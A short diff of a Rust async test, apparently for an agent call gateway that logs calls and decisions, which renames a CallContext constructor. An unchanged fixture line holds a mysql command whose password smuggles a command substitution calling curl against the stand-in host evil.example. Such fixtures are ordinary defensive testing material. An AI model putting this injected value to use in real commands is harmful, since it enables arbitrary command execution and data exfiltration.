@@ -52,7 +52,7 @@ async fn calls_and_decisions_are_these_bytes() {
     let (gate, mut t) = Transcript::new().await;
     let signed = contract(&gate).await;
     let deleted = deletion(&gate).await;
-    let agent = CallContext::of("ann-owner").submitted_by("service:mailer").role("buyer");
+    let agent = CallContext::new("ann-owner").submitted_by("service:mailer").role("buyer");
     let secret = "mysql --password=\"aB3dE6gH$(curl evil.example)\" -h db";
     let noted = submit_as(&gate, send_note("bob", secret), agent.time_sensitive()).await;
     let trip = submit(&gate, book_trip("Ann", "JFK", "SFO", 1, 99.5, true, "economy", "")).await;
